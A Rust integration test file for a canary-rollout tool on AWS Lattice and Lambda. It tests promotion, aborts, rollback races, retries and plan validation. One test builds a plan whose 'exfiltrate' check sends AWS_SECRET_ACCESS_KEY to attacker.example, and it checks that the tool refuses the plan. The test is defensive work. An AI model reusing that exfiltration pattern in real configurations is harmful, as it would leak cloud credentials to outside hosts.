//! `shift` against the emulator, time compressed (bakes of a few hundred milliseconds): a good
//! version promoted through every step, a version failing a check at step 2, an alarm during a
//! bake, a concurrent rollback, re-runs of a step, and plans refused before anything moves.

mod common;
#[path = "../../tests/support/mod.rs"]
mod support;

use std::time::Duration;

use aws_sdk_cloudwatch::types::StateValue;
use common::*;
use rollback::Deadline;
use serde_json::{json, Value};
use shift::plan::{Marker, Status};
use shift::{handle_shift, Action, ShiftConfig};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_good_version_is_promoted_through_every_step_and_production_points_at_it() {
    let (s, lat) = lattice_world().await;
    // As on AWS, a deregistered target stays listed (DRAINING) for a while after promotion.
    s.w.emu.control(
        "POST",
        "/_shiftguard/lattice/draining",
        Some(&json!({"seconds": 600})),
    );
    let mut plan = lattice_plan(&lat, "orders-v2");
    s.w.emu.control(
        "POST",
        "/_shiftguard/lambda/behaviour",
        Some(&json!({"function": "orders", "version": "2", "response": {"statusCode": 200}})),
    );
    plan["rollout"]["checkFunction"] =
        json!({"function": "orders", "version": "2", "currentVersion": "1"});
    plan["rollout"]["checks"] = json!({"before": {"checks": [
        {"name": "smoke", "kind": "invoke", "expect": {"status": 200}, "timeout": "2s"}]}});

    let steps = drive(&s, &plan).await;

    let actions: Vec<(Action, usize, u8)> = steps
        .iter()
        .map(|x| (x.action, x.step, x.canary_weight))
        .collect();
    // Baking steps may appear when the machine is slow; the moves are exactly these, in order.
    let moves: Vec<&(Action, usize, u8)> =
        actions.iter().filter(|a| a.0 != Action::Baking).collect();
    assert_eq!(
        moves,
        [
            &(Action::Started, 1, 10),
            &(Action::Advanced, 2, 50),
            &(Action::Advanced, 3, 100),
            &(Action::Promoted, 3, 0)
        ],
        "{actions:?}"
    );
    assert_eq!(
        steps[0].checks.len(),
        1,
        "the check before the first step ran"
    );
    assert_eq!(steps[0].checks[0].details["executedVersion"], "2");
    assert_eq!(steps[0].wait_ms, Some(300));
    // Production now serves the new version, with all traffic; the canary group keeps it too.
    let weights = listener_weights(&s.w, &lat).await;
    assert_eq!(canary_share(&weights, &lat), 0, "{weights:?}");
    let v2 = version_arn(&s, "orders", "2").await;
    assert_eq!(targets(&s.w, &lat.production).await, [live_arn(&s).await]);
    assert_eq!(
        alias_state(&s.w, "orders", "live").await,
        ("2".to_string(), vec![]),
        "production's alias moved to the new version"
    );
    assert_eq!(targets(&s.w, &lat.canary).await, [v2]);
    let marker = listener_marker(&s, &lat).await.expect("marker");
    assert_eq!(
        (marker.id.as_str(), marker.status, marker.step),
        ("orders-v2", Status::Promoted, 3)
    );

    // Re-running the last step (Step Functions retried it, a person ran it) writes nothing.
    s.w.emu.reset_calls();
    let again = step(&s, &plan).await.unwrap();
    assert_eq!((again.action, again.status), (Action::Finished, "promoted"));
    assert!(writes(&s.w.emu).is_empty(), "{:?}", writes(&s.w.emu));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alarm_during_a_bake_aborts_and_restores_production() {
    let (s, lat) = lattice_world().await;
    let plan = lattice_plan(&lat, "orders-v2");
    let first = step(&s, &plan).await.unwrap();
    assert_eq!((first.action, first.canary_weight), (Action::Started, 10));
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 10);

    set_alarm(&s, ALARM, StateValue::Alarm).await;
    let topic =
        s.w.clients
            .sns()
            .create_topic()
            .name("shiftguard-rollouts")
            .send()
            .await
            .unwrap()
            .topic_arn
            .unwrap();
    s.w.emu.reset_calls();
    let aborted = step_with(&s, &plan, &[("NOTIFY_TOPIC_ARN".into(), topic.clone())])
        .await
        .unwrap();
    // Recorded like rollback's: the summary published to the topic.
    assert!(
        aborted
            .notification
            .as_deref()
            .unwrap_or("")
            .contains(&topic),
        "{:?}",
        aborted.notification
    );
    assert_eq!(s.w.emu.count("sns", "Publish"), 1);
    assert_eq!(
        (aborted.action, aborted.status),
        (Action::Aborted, "aborted")
    );
    let reason = aborted.reason.clone().unwrap();
    assert!(
        reason.contains(ALARM) && reason.contains("step 1"),
        "{reason}"
    );
    let restore = aborted
        .restore
        .as_ref()
        .expect("restored through rollback's code");
    assert_eq!(serde_json::to_value(restore.outcome).unwrap(), "restored");
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 0);
    assert_eq!(
        listener_marker(&s, &lat).await.unwrap().status,
        Status::Aborted
    );
    // Production keeps its own targets: nothing was promoted.
    assert_eq!(
        (
            targets(&s.w, &lat.production).await,
            alias_state(&s.w, "orders", "live").await.0
        ),
        (vec![live_arn(&s).await], "1".to_string())
    );

    // The alarm clears; the aborted rollout stays aborted (a new rollout needs a new id).
    set_alarm(&s, ALARM, StateValue::Ok).await;
    s.w.emu.reset_calls();
    let again = step(&s, &plan).await.unwrap();
    assert_eq!((again.action, again.status), (Action::Finished, "aborted"));
    assert!(writes(&s.w.emu).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_concurrent_rollback_aborts_the_rollout_and_is_never_undone() {
    let (s, lat) = lattice_world().await;
    let plan = lattice_plan(&lat, "orders-v2");
    step(&s, &plan).await.unwrap();
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 10);

    // The alarm fires and rollback (subscribed to it) restores production first; the alarm
    // returns to OK before the rollout's next step.
    let config = config(json!([{"alarms": [ALARM], "targets": [lattice_target(&lat)]}]));
    let mut event = shiftguard_testkit::event("rollback/sns-lattice-alarm.json");
    let message = event["Records"][0]["Sns"]["Message"]
        .as_str()
        .unwrap()
        .to_string();
    let mut message: Value = serde_json::from_str(&message).unwrap();
    message["StateChangeTime"] = json!(chrono_now());
    event["Records"][0]["Sns"]["Message"] = json!(message.to_string());
    let summary = rollback::handle(
        &s.w.clients,
        &config,
        &event,
        Deadline::after(Duration::from_secs(30)),
    )
    .await
    .expect("rollback");
    assert_eq!(
        serde_json::to_value(summary.targets[0].outcome).unwrap(),
        "restored"
    );

    s.w.emu.reset_calls();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let next = step(&s, &plan).await.unwrap();
    assert_eq!((next.action, next.status), (Action::Aborted, "aborted"));
    // Rollback's restore record says who restored production (before it, traffic alone did).
    assert!(
        next.reason
            .as_deref()
            .unwrap()
            .contains("rollback restored production"),
        "{:?}",
        next.reason
    );
    assert!(
        next.restore.is_none(),
        "production was already restored: nothing to restore"
    );
    let w = writes(&s.w.emu);
    assert_eq!(
        w,
        ["vpc-lattice:TagResource"],
        "only the marker is written, never the weights"
    );
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 0);
}

fn chrono_now() -> String {
    // The notification's time format: 2026-11-21T14:57:14.419+0000.
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    let secs = now.as_secs() as i64;
    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    let (y, m, d) = civil(days);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:03}+0000",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60,
        now.subsec_millis()
    )
}

/// Days since 1970-01-01 to (year, month, day) — H. Hinnant's civil_from_days.
fn civil(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn re_running_a_step_is_harmless_and_a_crash_mid_move_is_resumed() {
    let (s, lat) = lattice_world().await;
    let plan = lattice_plan(&lat, "orders-v2");
    step(&s, &plan).await.unwrap();

    // The same step again at once (a Lambda retry): still baking, nothing written.
    s.w.emu.reset_calls();
    let again = step(&s, &plan).await.unwrap();
    assert_eq!(
        (again.action, again.step, again.canary_weight),
        (Action::Baking, 1, 10)
    );
    assert!(again.wait_ms.unwrap() <= 300);
    assert!(writes(&s.w.emu).is_empty(), "{:?}", writes(&s.w.emu));

    // A crash after the marker said "moving to step 2" but before the weights were written.
    let moving = Marker::new("orders-v2", 2, 50, Status::Moving, 0);
    set_marker(&s, &lat, &moving).await;
    let resumed = step(&s, &plan).await.unwrap();
    assert_eq!(
        (resumed.action, resumed.step, resumed.canary_weight),
        (Action::Resumed, 2, 50)
    );
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 50);
    assert_eq!(
        listener_marker(&s, &lat).await.unwrap().status,
        Status::Baking
    );

    // Another rollout on the same listener while this one runs: refused, nothing touched.
    s.w.emu.reset_calls();
    let other = step(&s, &lattice_plan(&lat, "orders-v3"))
        .await
        .unwrap_err();
    assert_eq!(other.error_type(), "Shift.Refused");
    assert!(other.to_string().contains("orders-v2"), "{other}");
    assert!(writes(&s.w.emu).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_plans_are_refused_before_anything_moves() {
    let (s, lat) = lattice_world().await;
    s.w.emu.reset_calls();
    let mut not_increasing = lattice_plan(&lat, "r1");
    not_increasing["rollout"]["steps"] = json!([{"weight": 50}, {"weight": 25}, {"weight": 100}]);
    let e = step(&s, &not_increasing).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.InvalidPlan");
    assert!(e.to_string().contains("rollout.steps[1].weight"), "{e}");
    assert!(
        s.w.emu.calls().is_empty(),
        "no AWS call for a plan that does not parse"
    );

    let mut not_in_listener = lattice_plan(&lat, "r1");
    not_in_listener["rollout"]["target"]["canaryTargetGroup"] = json!(lat.other);
    let e = step(&s, &not_in_listener).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.InvalidPlan");
    assert!(e.to_string().contains(&lat.other), "{e}");

    // A listener not created yet (its stack has not deployed): refused naming the field, with
    // Lattice's own words (they say whether the service or the listener is missing).
    let mut no_listener = lattice_plan(&lat, "r1");
    no_listener["rollout"]["target"]["listener"] = json!("listener-0123456789abcdef0");
    let e = step(&s, &no_listener).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.InvalidPlan");
    let text = e.to_string();
    assert!(
        text.contains("rollout.target.listener: listener-0123456789abcdef0")
            && text.contains("does not exist (")
            && !text.contains("does not exist ()"),
        "{e}"
    );

    let mut no_alarm = lattice_plan(&lat, "r1");
    no_alarm["rollout"]["alarms"] = json!(["no-such-alarm"]);
    let e = step(&s, &no_alarm).await.unwrap_err();
    assert!(
        e.to_string().contains("rollout.alarms") && e.to_string().contains("no-such-alarm"),
        "{e}"
    );

    // The checks would judge version 1 while the canary group serves version 2.
    let mut wrong_version = lattice_plan(&lat, "r1");
    wrong_version["rollout"]["checkFunction"] = json!({"function": "orders", "version": "1"});
    let e = step(&s, &wrong_version).await.unwrap_err();
    assert!(
        e.to_string().contains("rollout.checkFunction.version")
            && e.to_string().contains("orders:2"),
        "{e}"
    );
    wrong_version["rollout"]["checkFunction"] = json!({"function": "payments", "version": "4"});
    let e = step(&s, &wrong_version).await.unwrap_err();
    assert!(
        e.to_string()
            .contains("rollout.checkFunction: version 4 of payments does not exist"),
        "{e}"
    );

    assert!(writes(&s.w.emu).is_empty(), "{:?}", writes(&s.w.emu));
    function(&s.w, "checkout", 2).await;
    alias(&s.w, "checkout", "live", "1", &[]).await;
    s.w.emu.reset_calls();
    let missing_version = json!({"shiftguard": "shift", "rollout": {"id": "r1",
        "target": {"type": "lambda-alias", "function": "checkout", "alias": "live", "newVersion": "9"},
        "steps": [{"weight": 100}]}});
    let e = step(&s, &missing_version).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.InvalidPlan");
    assert!(e.to_string().contains("version 9"), "{e}");
    // The alias is not created yet (its stack has not deployed): refused, nothing tagged.
    let mut no_alias = missing_version.clone();
    no_alias["rollout"]["target"]["alias"] = json!("canary-live");
    no_alias["rollout"]["target"]["newVersion"] = json!("2");
    let e = step(&s, &no_alias).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.InvalidPlan");
    assert!(
        e.to_string()
            .contains("alias canary-live of function checkout does not exist"),
        "{e}"
    );
    // With Lambda's own words beside it.
    assert!(e.to_string().contains("does not exist ("), "{e}");
    assert!(writes(&s.w.emu).is_empty(), "{:?}", writes(&s.w.emu));
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alias_version_failing_a_check_at_step_2_is_aborted_with_production_restored() {
    let s = shift_world().await;
    function(&s.w, "checkout", 2).await;
    alias(&s.w, "checkout", "live", "1", &[]).await;
    let behave = |version: &str, response: Value| {
        let mut body = response;
        body["function"] = json!("checkout");
        body["version"] = json!(version);
        s.w.emu
            .control("POST", "/_shiftguard/lambda/behaviour", Some(&body));
    };
    behave("1", json!({"response": {"statusCode": 200}}));
    behave("2", json!({"response": {"statusCode": 200}}));
    let plan = json!({"shiftguard": "shift", "rollout": {"id": "checkout-v2",
        "target": {"type": "lambda-alias", "function": "checkout", "alias": "live", "newVersion": "2", "stableAlias": "blue"},
        "steps": [{"weight": 10, "bake": "200ms"}, {"weight": 50, "bake": "200ms"}, {"weight": 100, "bake": "200ms"}],
        // Through the alias, as callers see it: 20 requests reach version 2 at 50% with
        // near certainty (all 20 on version 1: one in a million).
        "checks": {"after": {"checks": [{"name": "load", "kind": "burst", "requests": 20, "concurrency": 4,
            "target": {"invoke": {"expect": {"status": 200}}}, "maxFailureRate": 0.01, "timeout": "10s"}]}}}});

    let first = step(&s, &plan).await.unwrap();
    assert_eq!((first.action, first.canary_weight), (Action::Started, 10));
    assert_eq!(
        alias_state(&s.w, "checkout", "live").await,
        ("1".to_string(), vec![("2".to_string(), 0.1)])
    );
    tokio::time::sleep(Duration::from_millis(220)).await;
    let second = step(&s, &plan).await.unwrap();
    assert_eq!(
        (second.action, second.step, second.canary_weight),
        (Action::Advanced, 2, 50),
        "{second:?}"
    );
    assert_eq!(second.checks[0].verdict, hooks::checks::Verdict::Passed);

    // Version 2 starts failing during step 2.
    behave(
        "2",
        json!({"function_error": "Unhandled", "response": {"errorMessage": "boom"}}),
    );
    tokio::time::sleep(Duration::from_millis(220)).await;
    let third = step(&s, &plan).await.unwrap();
    assert_eq!(
        (third.action, third.status, third.step),
        (Action::Aborted, "aborted", 2),
        "{third:?}"
    );
    assert!(
        third
            .reason
            .as_deref()
            .unwrap()
            .contains("checks after step 2 (50%) failed"),
        "{:?}",
        third.reason
    );
    assert_eq!(
        alias_state(&s.w, "checkout", "live").await,
        ("1".to_string(), vec![])
    );
    let restore = third.restore.as_ref().unwrap();
    assert_eq!(serde_json::to_value(restore.outcome).unwrap(), "restored");
    // Never promoted: the stable pointer was not created.
    assert!(
        shiftguard_testkit::fixtures::alias_missing(&s.w.clients.lambda, "checkout", "blue").await,
        "the stable pointer alias blue"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alias_rollout_ends_on_the_new_version_with_the_stable_pointer_moved() {
    let s = shift_world().await;
    function(&s.w, "checkout", 3).await;
    alias(&s.w, "checkout", "live", "2", &[]).await;
    alias(&s.w, "checkout", "blue", "2", &[]).await;
    let plan = json!({"shiftguard": "shift", "rollout": {"id": "checkout-v3",
        "target": {"type": "lambda-alias", "function": "checkout", "alias": "live", "newVersion": "3", "stableAlias": "blue"},
        "steps": [{"weight": 25, "bake": "100ms"}, {"weight": 100, "bake": "100ms"}]}});
    let steps = drive(&s, &plan).await;
    let last = steps.last().unwrap();
    assert_eq!(
        (last.action, last.status),
        (Action::Promoted, "promoted"),
        "{steps:?}"
    );
    assert_eq!(
        alias_state(&s.w, "checkout", "live").await,
        ("3".to_string(), vec![])
    );
    assert_eq!(alias_state(&s.w, "checkout", "blue").await.0, "3");
}

/// A rollback that restores production while the after-checks run (a slow check) is never
/// written over: the move reads traffic just before writing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rollback_during_the_checks_is_never_written_over() {
    let (s, lat) = lattice_world().await;
    s.w.emu.control(
        "POST",
        "/_shiftguard/lambda/behaviour",
        Some(&json!({"function": "orders", "version": "2", "delay_ms": 1500, "response": {"statusCode": 200}})),
    );
    let mut plan = lattice_plan(&lat, "orders-v2");
    plan["rollout"]["checkFunction"] =
        json!({"function": "orders", "version": "2", "currentVersion": "1"});
    plan["rollout"]["checks"] = json!({"after": {"checks": [
        {"name": "slow", "kind": "invoke", "expect": {"status": 200}, "timeout": "5s"}]}});
    step(&s, &plan).await.unwrap();
    tokio::time::sleep(Duration::from_millis(320)).await;

    let judging = {
        let (shift, plan) = (s.shift.clone(), plan.clone());
        tokio::spawn(async move {
            let config = ShiftConfig::from_vars(&[]).unwrap();
            handle_shift(
                &shift,
                &config,
                &plan,
                Deadline::after(Duration::from_secs(60)),
            )
            .await
        })
    };
    // While the check waits on the slow version: rollback restores production (the alarm has
    // already cleared again when the checks end — the alarms' second read sees OK).
    tokio::time::sleep(Duration::from_millis(500)).await;
    let config = config(json!([{"alarms": [ALARM], "targets": [lattice_target(&lat)]}]));
    let request = json!({"shiftguard": "rollback", "targets": [format!("lattice-listener:{}/{}", lat.service, lat.listener)],
                         "reason": "INC-7", "requestedBy": "oncall"});
    let restored = rollback::handle(
        &s.w.clients,
        &config,
        &request,
        Deadline::after(Duration::from_secs(30)),
    )
    .await
    .expect("operator rollback");
    assert_eq!(
        serde_json::to_value(restored.targets[0].outcome).unwrap(),
        "restored"
    );

    let judged = judging.await.unwrap().unwrap();
    assert_eq!(
        (judged.action, judged.status),
        (Action::Aborted, "aborted"),
        "{judged:?}"
    );
    assert!(
        judged
            .reason
            .as_deref()
            .unwrap()
            .contains("rollback restored production"),
        "{:?}",
        judged.reason
    );
    assert!(judged.restore.is_none());
    assert_eq!(
        canary_share(&listener_weights(&s.w, &lat).await, &lat),
        0,
        "the rollback stands"
    );
}

/// A crash after the last judgement left the marker `promoting`; rollback restored production
/// since. The resumed promotion reads traffic first and aborts: production's targets untouched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_promotion_resumed_after_a_rollback_aborts_and_keeps_production() {
    let (s, lat) = lattice_world().await;
    let promoting = Marker::new("orders-v2", 3, 100, Status::Promoting, 0);
    set_marker(&s, &lat, &promoting).await;
    s.w.emu.reset_calls();

    let resumed = step(&s, &lattice_plan(&lat, "orders-v2")).await.unwrap();
    assert_eq!(
        (resumed.action, resumed.status),
        (Action::Aborted, "aborted"),
        "{resumed:?}"
    );
    assert!(
        resumed
            .reason
            .as_deref()
            .unwrap()
            .contains("during promotion"),
        "{:?}",
        resumed.reason
    );
    assert_eq!(writes(&s.w.emu), ["vpc-lattice:TagResource"]);
    assert_eq!(
        (
            targets(&s.w, &lat.production).await,
            alias_state(&s.w, "orders", "live").await.0
        ),
        (vec![live_arn(&s).await], "1".to_string())
    );
    let marker = listener_marker(&s, &lat).await.unwrap();
    assert_eq!(
        (marker.status, marker.why.as_deref()),
        (Status::Aborted, Some("promotion"))
    );
}

/// A plan arrives with the event: its checks may read only the variables the function's owner
/// allows (SHIFT_ALLOWED_SECRETS), never AWS_*.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_reads_only_the_secrets_it_is_allowed() {
    let (s, lat) = lattice_world().await;
    let mut plan = lattice_plan(&lat, "orders-v2");
    plan["rollout"]["checks"] = json!({"after": {"checks": [{"name": "exfiltrate", "kind": "http",
        "url": "https://attacker.example/x", "secretHeaders": {"X-Key": "AWS_SECRET_ACCESS_KEY"}}]}});
    s.w.emu.reset_calls();
    let vars = [
        ("AWS_SECRET_ACCESS_KEY".to_string(), "s3cr3t".to_string()),
        (
            "SHIFT_ALLOWED_SECRETS".to_string(),
            "AWS_SECRET_ACCESS_KEY,PARTNER_TOKEN".to_string(),
        ),
    ];
    let e = step_with(&s, &plan, &vars).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.InvalidPlan");
    assert!(
        e.to_string().contains("AWS_SECRET_ACCESS_KEY") && e.to_string().contains("exfiltrate"),
        "{e}"
    );
    assert!(!e.to_string().contains("s3cr3t"));
    plan["rollout"]["checks"]["after"]["checks"][0]["secretHeaders"] =
        json!({"X-Key": "PARTNER_TOKEN"});
    let e = step_with(&s, &plan, &vars[..1]).await.unwrap_err();
    assert!(
        e.to_string().contains("PARTNER_TOKEN") && e.to_string().contains("SHIFT_ALLOWED_SECRETS"),
        "{e}"
    );
    assert!(s.w.emu.calls().is_empty(), "refused before any AWS call");
    // Listed by name only: a secret is sent only to the origin it is listed with.
    let named = [
        vars[1].clone(),
        ("PARTNER_TOKEN".to_string(), "t0ken".to_string()),
    ];
    let e = step_with(&s, &plan, &named).await.unwrap_err();
    assert!(
        e.to_string()
            .contains("PARTNER_TOKEN@https://attacker.example"),
        "{e}"
    );
    // Allowed for that origin and set: the plan runs.
    let ok = [
        (
            "SHIFT_ALLOWED_SECRETS".to_string(),
            "PARTNER_TOKEN@https://attacker.example".to_string(),
        ),
        ("PARTNER_TOKEN".to_string(), "t0ken".to_string()),
    ];
    assert_eq!(
        step_with(&s, &plan, &ok).await.unwrap().action,
        Action::Started
    );
}

/// Lattice throttles step 1's write past the SDK's retries: the step fails (retried by the state
/// machine) with the marker put back to step 0, so the retry starts cleanly — it is not mistaken
/// for a rollback's restore (which would end the rollout).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_throttled_first_write_is_retried_cleanly() {
    let (s, lat) = lattice_world().await;
    let plan = lattice_plan(&lat, "orders-v2");
    s.w.emu.arm_fault(json!({"service": "vpc-lattice", "operation": "UpdateListener", "kind": "throttle", "count": 10}));
    let e = step(&s, &plan).await.unwrap_err();
    assert_eq!(e.error_type(), "Shift.AwsError", "{e}");
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 0);
    let marker = listener_marker(&s, &lat).await.unwrap();
    assert_eq!((marker.step, marker.status), (0, Status::Baking));

    s.w.emu.control("DELETE", "/_shiftguard/faults", None);
    let retried = step(&s, &plan).await.unwrap();
    assert_eq!(
        (retried.action, retried.canary_weight),
        (Action::Started, 10),
        "{retried:?}"
    );
    assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 10);
}

/// `orders:VERSION` invoked `n` times, 20 at a time, as a Lattice target group invokes the
/// version it holds.
async fn serve(s: &Shift, version: &str, n: usize) {
    use futures::StreamExt;
    futures::stream::iter(0..n)
        .for_each_concurrent(20, |_| async {
            s.w.clients
                .lambda
                .invoke()
                .function_name("orders")
                .qualifier(version)
                .payload(aws_sdk_lambda::primitives::Blob::new(b"{}".to_vec()))
                .send()
                .await
                .expect("Invoke");
        })
        .await;
}

/// Issue 21 [7]: a Lattice rollout's `compare` after-check judges the versions the target groups
/// serve (no alias in sight): their per-invocation REPORT lines, by version. An equal canary
/// advances; a twice-slower one aborts the rollout at its first step.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_lattice_rollouts_compare_judges_the_versions_the_groups_serve() {
    for (canary_delay, want) in [(20, Action::Advanced), (40, Action::Aborted)] {
        let (s, lat) = lattice_world().await;
        for (version, delay) in [("1", 20), ("2", canary_delay)] {
            s.w.emu.control(
                "POST",
                "/_shiftguard/lambda/behaviour",
                Some(&json!({"function": "orders", "version": version, "delay_ms": delay, "response": {"statusCode": 200}})),
            );
        }
        let mut plan = lattice_plan(&lat, "orders-v2");
        plan["rollout"]["checkFunction"] =
            json!({"function": "orders", "version": "2", "currentVersion": "1"});
        plan["rollout"]["checks"] = json!({"after": {"checks": [
            // The tail off: the emulator's durations under 20 concurrent invocations on two
            // cores have a heavy tail that 600 samples cannot tell from the tolerance (the tail
            // has its own tests); this test is about which data a Lattice rollout is judged on.
            {"name": "new-vs-old", "kind": "compare", "source": "reports", "window": "30m", "timeout": "60s",
             "tailQuantile": null}]}});
        let first = step(&s, &plan).await.expect("step 1");
        assert_eq!(first.action, Action::Started, "{first:?}");
        // The canary's traffic through its group, and production's through its own.
        tokio::join!(serve(&s, "1", 600), serve(&s, "2", 600));
        tokio::time::sleep(Duration::from_millis(350)).await; // the 300 ms bake
        let second = step(&s, &plan).await.expect("step 2");
        let compare = second
            .checks
            .iter()
            .find(|c| c.name == "new-vs-old")
            .unwrap_or_else(|| panic!("the after-check ran: {second:?}"));
        assert_eq!(
            compare.details["mode"], "log-reports",
            "{:?}",
            compare.details
        );
        assert_eq!(second.action, want, "{:?}", compare.reason);
    }
}
